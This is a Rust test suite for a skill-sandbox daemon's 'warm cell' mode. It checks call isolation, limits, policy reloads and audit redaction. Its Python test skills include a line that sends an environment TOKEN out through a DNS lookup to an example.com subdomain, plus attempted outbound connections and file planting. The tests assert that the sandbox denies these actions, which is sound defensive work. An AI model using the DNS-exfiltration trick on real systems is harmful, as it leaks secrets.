//! Warm cells: a call that goes on from where its skill was loaded is held by the same plan, sees
//! nothing of other calls, and is made cold where it can't be warm.

use crate::daemon::{Answer, Daemon};
use crate::{cell, execute};
use serde_json::{Value, json};
use skillcell_tests::{Cell, alone, processes_named, shared};
use std::collections::HashSet;
use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

pub(crate) fn start(cell: &Cell) -> Daemon {
    Daemon::start(cell, &["--load-first"])
}

pub(crate) fn metric(daemon: &Daemon, name: &str) -> u64 {
    let text = daemon.get("/metrics").body;
    let line = text
        .lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' '));
    line.and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no {name} in {text}"))
}

fn warm_calls(daemon: &Daemon) -> u64 {
    metric(daemon, "skillcell_warm_calls_total")
}

fn post(daemon: &Daemon, skill: &Path, params: Value) -> Answer {
    daemon.post(
        "/v1/run",
        &json!({"skill": skill, "params": params}).to_string(),
    )
}

/// The envelope of a call that must be made warm.
#[track_caller]
pub(crate) fn warm(daemon: &Daemon, skill: &Path, params: Value) -> Value {
    let before = warm_calls(daemon);
    let answer = post(daemon, skill, params);
    assert_eq!(
        warm_calls(daemon),
        before + 1,
        "it was made cold: {answer:?}"
    );
    answer.json()
}

#[track_caller]
pub(crate) fn result(daemon: &Daemon, skill: &Path, params: Value) -> Value {
    let envelope = warm(daemon, skill, params);
    assert_eq!(envelope["status"], "ok", "{envelope}");
    envelope["result"].clone()
}

fn module(cell: &Cell, top: &str, body: &str) -> std::path::PathBuf {
    let lines: String = body.lines().map(|l| format!("        {l}\n")).collect();
    let code = format!("{top}\nclass Subject:\n    def execute(self, params):\n{lines}");
    cell.bundle(
        "subject",
        &[
            ("manifest.yaml", "name: subject\nversion: 1.0.0\n"),
            ("skill.py", &code),
        ],
    )
}

#[test]
fn a_loaded_skill_is_not_loaded_again() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top = "import time\ntime.sleep(0.4)\nloaded = time.time()";
    let skill = module(&cell, top, "return [loaded, params['n']]");
    let first = result(&daemon, &skill, json!({"n": 1}));
    let begin = Instant::now();
    let second = result(&daemon, &skill, json!({"n": 2}));
    assert!(begin.elapsed() < Duration::from_millis(400));
    assert_eq!(first[0], second[0]);
    assert_eq!((&first[1], &second[1]), (&json!(1), &json!(2)));
}

#[test]
fn the_receipt_and_the_record_are_those_of_a_call() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let skill = execute(&cell, "open('/tmp/x', 'w').close()\nreturn 1");
    let envelope = warm(&daemon, &skill, json!({}));
    let cold = cell.call(&skill).run();
    assert_eq!(envelope["enforcement"], cold.envelope()["enforcement"]);
    let run = envelope["run_id"].as_str().unwrap();
    let shown = cell.skillcell(["audit", "show", run, "--json"]);
    let lines: Vec<Value> = shown
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let text = serde_json::to_string(&lines).unwrap() + &shown.stdout;
    assert!(text.contains("\"template\""), "{text}");
    assert!(text.contains("/tmp/x"), "{text}");
    assert!(text.contains("call_ended"), "{text}");
}

#[test]
fn a_changed_policy_is_in_force_at_the_next_call() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let skill = execute(&cell, "return 1");
    let memory = |envelope: &Value| {
        let receipt = envelope["enforcement"].as_array().unwrap().clone();
        let entry = receipt.into_iter().find(|e| e["control"] == "memory");
        entry.unwrap()["mechanism"].to_string()
    };
    assert!(memory(&warm(&daemon, &skill, json!({}))).contains("256MiB"));
    let policy = "home/.config/skillcell/skillcell.yaml";
    cell.file(
        policy,
        "version: 1\ndefaults: {resources: {memory: 64MiB}}\n",
    );
    let narrowed = memory(&warm(&daemon, &skill, json!({})));
    assert!(narrowed.contains("64MiB"), "{narrowed}");
    // And it can turn warm cells off.
    cell.file(policy, "version: 1\ndefaults: {warm: false}\n");
    let before = warm_calls(&daemon);
    assert_eq!(post(&daemon, &skill, json!({})).json()["status"], "ok");
    assert_eq!(warm_calls(&daemon), before);
    // A broken one refuses, warm or not.
    cell.file(policy, "version: 1\nunknown: 1\n");
    assert_eq!(
        post(&daemon, &skill, json!({})).json()["status"],
        "invalid_input"
    );
}

#[test]
fn a_changed_skill_is_the_next_call_s() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    for n in 0..4 {
        let skill = execute(&cell, &format!("return {n}"));
        assert_eq!(result(&daemon, &skill, json!({})), n);
    }
}

#[test]
fn no_two_calls_draw_the_same_random_numbers() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top = "import os, random, secrets, ssl, uuid, tempfile\nssl.RAND_bytes(8)\nrandom.random()";
    let body = "return [random.random(), secrets.token_hex(), ssl.RAND_bytes(16).hex(), str(uuid.uuid4()), os.urandom(8).hex(), next(tempfile._get_candidate_names())]";
    let skill = module(&cell, top, body);
    let mut seen = HashSet::new();
    for _ in 0..25 {
        for value in result(&daemon, &skill, json!({})).as_array().unwrap() {
            assert!(seen.insert(value.to_string()), "drawn twice: {value}");
        }
    }
}

#[test]
fn what_forks_are_told_a_resumed_call_is_told() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top = "import os\ntold = []\nos.register_at_fork(after_in_child=lambda: told.append(1))\npid = os.getpid()";
    let skill = module(&cell, top, "return [told, os.getpid() != pid]");
    assert_eq!(result(&daemon, &skill, json!({})), json!([[1], true]));
}

#[test]
fn what_was_denied_while_loading_is_told_with_each_call() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top = "import socket\ntry:\n    socket.create_connection(('192.0.2.1', 443), 1)\nexcept OSError:\n    pass";
    let skill = module(&cell, top, "return 'clean'");
    for _ in 0..2 {
        let envelope = warm(&daemon, &skill, json!({}));
        assert_eq!(envelope["result"], "clean");
        assert!(
            envelope["denials"].to_string().contains("192.0.2.1"),
            "{envelope}"
        );
    }
}

#[test]
fn a_denial_while_loading_counts_where_denials_are_failures() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top = "try:\n    open('/skill/planted', 'w')\nexcept OSError:\n    pass";
    let skill = module(&cell, top, "return 'clean'");
    let body = json!({"skill": skill, "strict_denials": true}).to_string();
    for _ in 0..2 {
        let before = warm_calls(&daemon);
        assert_eq!(daemon.post("/v1/run", &body).json()["status"], "denied");
        assert_eq!(warm_calls(&daemon), before + 1);
    }
}

#[test]
fn a_skill_that_works_while_it_waits_is_not_kept_waiting() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let top =
        "import os\ndef spin():\n    while True: pass\nos.register_at_fork(after_in_child=spin)";
    let skill = module(&cell, top, "return 1");
    let body = json!({"skill": skill, "timeout": "1s"}).to_string();
    let first = daemon.post("/v1/run", &body).json();
    assert_eq!(first["status"], "limit_exceeded", "{first}");
    let end = Instant::now() + Duration::from_secs(20);
    while metric(&daemon, "skillcell_waiting_cells") > 0 {
        assert!(Instant::now() < end, "it still waits");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(daemon.post("/v1/run", &body).json()["result"], 1);
}

#[test]
fn values_of_variables_are_not_recorded_while_a_skill_is_loaded() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let skill = cell.bundle(
        "subject",
        &[
            ("manifest.yaml", "name: subject\nversion: 1.0.0\nsecurity_policy:\n  version: 1\n  env: [TOKEN]\n"),
            ("skill.py", "import os, socket\ntry:\n    socket.getaddrinfo(os.environ['TOKEN'] + '.example.com', 443)\nexcept OSError:\n    pass\nclass Subject:\n    def execute(self, params):\n        return 1\n"),
        ],
    );
    let value = "a-value-that-is-nobodys";
    let body = json!({"skill": skill, "env": [{"name": "TOKEN", "value": value}]});
    let before = warm_calls(&daemon);
    let answer = daemon.post("/v1/run", &body.to_string());
    assert_eq!(warm_calls(&daemon), before + 1, "{answer:?}");
    assert!(answer.body.contains("network_not_allowed"), "{answer:?}");
    assert!(!answer.body.contains(value), "{answer:?}");
    let record = cell
        .skillcell(["audit", "tail", "-n", "1000", "--json"])
        .stdout;
    assert!(record.contains("network_not_allowed"), "{record}");
    assert!(!record.contains(value), "{record}");
}

#[test]
fn skills_that_can_t_be_resumed_are_made_cold() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    for top in [
        "import threading, time\nthreading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        "import os\nkept = open('/skill/skill.py')",
        "import socket\nkept = socket.socket()",
        "import mmap\nkept = mmap.mmap(-1, 4096)",
        "import signal\nsignal.setitimer(signal.ITIMER_REAL, 60)",
        "open('/tmp/left', 'w').close()",
        "import os\nos.chdir('/tmp')",
        "import os\nos.umask(0o77)",
        "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))",
        "import subprocess\nkept = subprocess.Popen(['sleep', '60'])",
    ] {
        let before = warm_calls(&daemon);
        let skill = module(&cell, top, "return 7");
        let envelope = post(&daemon, &skill, json!({})).json();
        assert_eq!(
            (&envelope["status"], &envelope["result"]),
            (&json!("ok"), &json!(7)),
            "{top}"
        );
        assert_eq!(warm_calls(&daemon), before, "{top}");
    }
}

#[test]
fn a_skill_that_fails_to_load_fails_as_it_does_cold() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let skill = module(&cell, "raise KeyError('at import')", "return 1");
    let envelope = post(&daemon, &skill, json!({})).json();
    let cold = cell.call(&skill).run();
    assert_eq!(envelope["status"], cold.envelope()["status"]);
    assert_eq!(envelope["error"], cold.envelope()["error"]);
}

#[test]
fn files_of_a_call_are_in_its_warm_cell_and_in_no_other() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    let skill = cell.bundle(
        "subject",
        &[
            (
                "manifest.yaml",
                "name: subject\nversion: 1.0.0\nsecurity_policy:\n  version: 1\n  filesystem: {params: {from: read, to: write}}\n",
            ),
            (
                "skill.py",
                "import os\nclass Subject:\n    def execute(self, params):\n        text = open(params['from']).read()\n        open(params['to'], 'w').write(text.upper())\n        return [text, sorted(os.listdir(os.path.dirname(params['from'])))]\n",
            ),
        ],
    );
    let out = cell.folder("out");
    for name in ["one", "two"] {
        let from = cell.file(&format!("in-{name}/{name}"), name);
        let to = out.join(name);
        let body = json!({"skill": skill, "params": {"from": from, "to": to}, "read": [from], "write": [to]});
        let before = warm_calls(&daemon);
        let envelope = daemon.post("/v1/run", &body.to_string()).json();
        assert_eq!(envelope["status"], "ok", "{envelope}");
        assert_eq!(envelope["result"], json!([name, [name]]));
        assert_eq!(fs::read_to_string(&to).unwrap(), name.to_uppercase());
        assert_eq!(warm_calls(&daemon), before + 1);
    }
}

#[test]
fn limits_hold_in_warm_cells() {
    let _shared = shared();
    let cell = cell();
    let daemon = start(&cell);
    for (body, reason) in [
        ("while True: pass", "timeout_exceeded"),
        (
            "x = []\nwhile True: x.append(bytearray(1 << 20))",
            "memory_exceeded",
        ),
        (
            "f = open('/tmp/x', 'wb')\nwhile True: f.write(bytes(1 << 20))",
            "scratch_exceeded",
        ),
    ] {
        let skill = execute(&cell, body);
        let memory = if reason == "memory_exceeded" {
            "64MiB"
        } else {
            "256MiB"
        };
        let body = json!({"skill": skill, "timeout": "2s", "memory": memory});
        let before = warm_calls(&daemon);
        let envelope = daemon.post("/v1/run", &body.to_string()).json();
        assert_eq!(envelope["status"], "limit_exceeded", "{envelope}");
        assert_eq!(envelope["error"]["code"], reason, "{envelope}");
        assert_eq!(warm_calls(&daemon), before + 1);
    }
}

#[test]
fn a_killed_template_is_replaced() {
    let _alone = alone();
    let cell = cell();
    let daemon = start(&cell);
    let skill = execute(&cell, "return 1");
    result(&daemon, &skill, json!({}));
    for _ in 0..3 {
        let found = nurseries(daemon.child.id());
        assert!(!found.is_empty());
        for pid in &found {
            let pid = rustix::process::Pid::from_raw(*pid as i32).unwrap();
            rustix::process::kill_process(pid, rustix::process::Signal::KILL).unwrap();
        }
        // A call that was under way would fail; from its end on none is lost.
        while !found.iter().all(|pid| has_ended(*pid)) {
            std::thread::sleep(Duration::from_millis(1));
        }
        // Until it is noticed calls are cold, and none is lost.
        let end = Instant::now() + Duration::from_secs(20);
        loop {
            let before = warm_calls(&daemon);
            let envelope = post(&daemon, &skill, json!({})).json();
            assert_eq!(envelope["status"], "ok", "{envelope}");
            if warm_calls(&daemon) > before {
                break;
            }
            assert!(Instant::now() < end, "never warm again");
        }
    }
}

#[test]
fn a_killed_daemon_takes_its_waiting_cells_along() {
    let _alone = alone();
    let cell = cell();
    let daemon = start(&cell);
    let name = format!("warm{}", std::process::id());
    let top = format!("import ctypes\nctypes.CDLL(None).prctl(15, b'{name}', 0, 0, 0)");
    let skill = module(&cell, &top, "return 1");
    result(&daemon, &skill, json!({}));
    let waits = Instant::now() + Duration::from_secs(10);
    while processes_named(&name).is_empty() {
        assert!(Instant::now() < waits, "no cell waits");
        std::thread::sleep(Duration::from_millis(10));
    }
    daemon.child.signal(rustix::process::Signal::KILL);
    daemon.child.finish_within(Duration::from_secs(20));
    let gone = Instant::now() + Duration::from_secs(10);
    while !processes_named(&name).is_empty() {
        assert!(Instant::now() < gone, "cells are left");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Processes that hold templates for this daemon.
fn nurseries(daemon: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse().ok()) else {
            continue;
        };
        let read = |file: &str| fs::read_to_string(entry.path().join(file)).unwrap_or_default();
        let parent = read("status")
            .lines()
            .find_map(|l| l.strip_prefix("PPid:")?.trim().parse::<u32>().ok());
        if parent == Some(daemon) && read("cmdline").starts_with("skillcell-nursery") {
            found.push(pid);
        }
    }
    found
}

/// Whether a process is gone, or nothing of it is left but its exit code.
fn has_ended(pid: u32) -> bool {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    !status.contains("State:") || status.contains("State:\tZ")
}
